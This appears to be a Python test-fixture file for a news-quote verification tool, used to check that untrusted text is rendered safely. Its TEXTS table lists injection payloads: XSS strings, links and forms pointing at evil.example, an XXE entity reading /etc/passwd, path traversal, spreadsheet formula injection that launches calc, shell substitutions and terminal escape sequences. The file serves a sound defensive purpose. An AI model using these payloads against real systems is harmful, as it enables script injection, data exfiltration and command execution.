"""What strangers may put into a title, a quote, a name or an address."""

from __future__ import annotations

from datetime import UTC, datetime

from verifier.model import (
    Coverage,
    Divergence,
    Feed,
    FeedRow,
    FeedState,
    Finding,
    Health,
    Holdings,
    Kind,
    Match,
    Mention,
    NightReport,
    Problem,
    Quote,
    Relation,
    Report,
    Severity,
    Speaker,
    Story,
    Utterance,
    Variant,
    Verdict,
    digest,
)

TEXTS = {
    "script": "<script>alert(1)</script>",
    "closing script": "</script><script>alert(1)</script>",
    "closing style": "</style><script>alert(1)</script>",
    "closing title": "</title><img src=x onerror=alert(1)>",
    "image": '<img src="https://evil.example/t.gif">',
    "event": "<b onmouseover=alert(1)>look</b>",
    "double quote out": '"><script>alert(1)</script>',
    "single quote out": "'><script>alert(1)</script>",
    "attribute out": '" onfocus="alert(1)" autofocus="',
    "attribute without marks": " onclick=alert(1) x=",
    "backtick": "`-alert(1)-`",
    "svg": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "css import": "<style>@import 'https://evil.example/x.css'</style>",
    "css expression": "x:expression(alert(1))",
    "form": '<form action="https://evil.example"><button>OK</button></form>',
    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "details": "</details></section></main><h1>Nothing diverges</h1>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x41; &nosuch;",
    "half an entity": "AT&T &am &#",
    "jinja expression": "{{ 7 * 7 }} {{ ''.__class__.__mro__ }}",
    "jinja statement": "{% for x in range(9) %}x{% endfor %} {# #}",
    "percent format": "%s %d %n %(name)s %x%x%x",
    "brace format": "{0} {name} {0.__class__} ${HOME} $(id) `id`",
    "escape colour": "\x1b[31mred\x1b[0m",
    "escape clear": "\x1b[2J\x1b[H",
    "escape title": "\x1b]0;owned\x07",
    "escape link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "escape clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "escape answer": "\x1b[c\x1b[6n\x05",
    "c1 csi": "\x9b31mred\x9d0;owned\x9c",
    "bell and backspace": "safe\x07\x08\x08\x08\x08evil",
    "overwrite": "evil\rsafe",
    "nul": "be\x00fore",
    "vertical": "one\x0btwo\x0cthree\x1cfour\x1dfive\x1esix\x1fseven",
    "delete": "de\x7fl",
    "line breaks": "one\r\ntwo\nthree\rfour",
    "unicode breaks": "one\u2028two\u2029three\x85four",
    "right to left override": "\u202egnp.exe",
    "isolates": "\u2066\u2067\u2068never closed",
    "marks of direction": "\u200fa\u200eb\u061c",
    "arabic": "قال الوزير إن الجسر مغلق",
    "hebrew and latin": "הגשר (bridge) סגור",
    "half a surrogate": "broken \ud800 pair \udc00",
    "no characters": "\ufffe\uffff\ufdd0\U0001fffe",
    "byte-order mark": "\ufeffstart",
    "zero width": "in\u200bvi\u200dsi\u2060ble\u00ad",
    "tags": "plain\U000e0041\U000e0042\U000e007f",
    "stacked marks": "z" + "\u0301\u0316\u0489" * 200,
    "family": "👩‍👩‍👧‍👦🏳️‍🌈",
    "wide": "橋は閉じたままだ" * 30,
    "long word": "a" * 20_000,
    "many words": "word " * 5_000,
    "formula": "=1+1",
    "formula link": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "formula plus": "+1+1",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula after tab": "\t=1+1",
    "formula after return": "\r=1+1",
    "formula after blank": "  =1+1",
    "formula full width": "＝1+1",
    "exchange of data": "=cmd|'/C calc'!A0",
    "formula after semicolon": "x;=1+1",
    "formula after quote": '",=1+1,"',
    "csv quote": 'he said ""no"", twice',
    "csv break": '"\r\n"=1+1","',
    "json out": '"},{"verdict":"corroborated","x":"',
    "prototype": "__proto__",
    "path": "../../etc/passwd",
    "line report": "x.txt:1:1: error: fake\ny.txt:2:2: error: fake",
    "javascript": "javascript:alert(1)",
    "javascript in disguise": " jaVa\tscRipt:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "file address": "file:///etc/passwd",
    "no scheme": "//evil.example/x",
    "address out": 'https://evil.example/"onmouseover="alert(1)',
    "address with break": "https://evil.example/\nX-Header: 1",
    "address with escape": "https://evil.example/\x1b[31m",
    "half an address": "http://[::1",
    "empty": "",
    "blank": " \t\n ",
}

NOON = datetime(2026, 10, 13, 12, tzinfo=UTC)


def report(text: str, verdict: Verdict = Verdict.DIVERGENT) -> Report:
    """A report in which every text is `text`, and every span of a difference is absurd."""
    return Report(
        article=_story(text, f"“{text}” said {text}."),
        archive=Holdings(stories=1, quotes=1, outlets=1, coverage=Coverage.THIN),
        findings=(finding(text, 1, verdict),),
        problems=(Problem(stage="fetch", subject=text, message=text),),
    )


def finding(text: str, at: int, verdict: Verdict = Verdict.DIVERGENT) -> Finding:
    return Finding(
        quote=_quote(text, at),
        verdict=verdict,
        independent_sources=0,
        divergences=("wording", "speaker"),
        reason=text,
        matches=(_match(text),),
    )


def night(text: str) -> NightReport:
    """A night in which every text is `text`."""
    state = FeedState(url=text, asked=text, health=Health.FAILING, failures=1, reason=text)
    said = Utterance(
        id=digest(text),
        variants=(Variant(matches=(_match(text),)), Variant(matches=(_match(text),))),
        severity=Severity.HIGH,
        divergences=("wording",),
        reason=text,
    )
    return NightReport(
        started=NOON,
        finished=NOON,
        since=NOON,
        archive=Holdings(),
        feeds=(FeedRow(feed=Feed(url=text, title=text), state=state),),
        utterances=(said,),
        problems=(Problem(stage="fetch", subject=text, message=text),),
    )


def _story(text: str, body: str = "") -> Story:
    return Story(
        text=body or text,
        title=text,
        url=text,
        outlet=text,
        agency=text,
        byline=text,
        dateline=text,
        published=NOON,
        language=text,
        status=text,
        note=text,
    )


def _quote(text: str, at: int = 0) -> Quote:
    span = (at, at + max(1, len(text)))
    return Quote(
        id=digest(text),
        kind=Kind.DIRECT,
        text=text,
        spans=(span,),
        source=Mention(text=text, span=span),
        cue=Mention(text=text, span=span),
        speaker=Speaker(name=text, role=text),
        via=(text, text),
        confidence=0.5,
    )


def _match(text: str) -> Match:
    wording = Divergence(
        kind="wording",
        severity=Severity.HIGH,
        here=text,
        there=text,
        here_span=(2, 5),
        there_span=(10**9, 10**9 + 1),
    )
    overlapping = Divergence(
        kind="omission",
        severity=Severity.LOW,
        here="",
        there=text,
        here_span=(3, 3),
        there_span=(0, 4),
    )
    backwards = Divergence(
        kind="number",
        severity=Severity.HIGH,
        here=text,
        there="",
        here_span=(4, 1),
        there_span=(-3, 2),
    )
    who = Divergence(kind="speaker", severity=Severity.HIGH, here=text, there=text)
    return Match(
        story=_story(text),
        quote=_quote(text),
        relation=Relation.DIVERGENT,
        score=50.0,
        divergences=(wording, overlapping, backwards, who),
        independent=False,
        why="reprint",
        evidence=text,
    )
